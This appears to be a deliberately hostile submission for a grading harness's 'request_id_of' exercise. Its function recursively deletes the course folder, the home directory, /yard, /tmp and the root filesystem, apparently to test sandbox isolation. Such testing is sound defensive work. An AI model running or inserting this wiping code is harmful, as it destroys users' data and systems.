"""Deletes the course, the home and whatever else there is.

Exercise: request_id_of
Outcome: own_id | raised | never_ended
Needs: namespaces
"""

import os
import shutil
from pathlib import Path


def request_id_of(message):
    import helpers

    for folder in (Path(helpers.__file__).parents[1], Path.home(), Path("/yard"), Path("/tmp"), Path("/")):
        shutil.rmtree(folder, ignore_errors=True)
    os.chdir("/")
    return "req_deleted"
